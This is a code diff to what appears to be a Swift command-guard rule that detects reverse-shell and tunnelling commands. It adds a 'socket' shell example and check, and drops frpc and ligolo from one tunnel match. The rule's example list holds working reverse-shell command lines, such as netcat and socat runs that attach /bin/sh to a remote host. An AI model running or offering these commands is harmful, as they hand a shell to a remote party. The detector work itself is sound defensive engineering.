@@ -122,7 +122,7 @@ extension GuardRule {
       "netcat-shell", .reverseShell, .critical, "Hands a shell to whoever is at the other end.",
       dangerous: [
         "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1", "nc -l -p 1 -e /bin/sh",
-        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "nc h 1 | sh",
+        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "nc h 1 | sh", "socket -svp '/bin/sh -i' 1",
       ],
       safe: ["nc -zv host 22", "nc -l 8080", "socat TCP-LISTEN:80,fork TCP:h:80"]
     ) { command in
@@ -132,6 +132,7 @@ extension GuardRule {
         }
         return !command.runs("busybox") && !started.text.isEmpty
       }
+      if command.runs("socket") { return command.arguments.contains { $0.text.hasPrefix("-") && $0.text.contains("p") } }
       guard command.runs("socat") else { return false }
       let line = command.line.lowercased()
       return (line.contains("exec:") || line.contains("system:"))
@@ -183,7 +184,7 @@ extension GuardRule {
       case "ngrok": return command.mentions("tcp")
       case "xterm": return command.has("-display")
       case "gsocket", "gs-netcat", "pwncat", "tmate", "sshuttle": return command.runs("gsocket", "gs-netcat", "pwncat")
-      case "chisel", "frpc", "ligolo": return command.line.contains("R:") || command.runs("frpc", "ligolo")
+      case "chisel": return command.line.contains("R:")
       default: return false
       }
     },
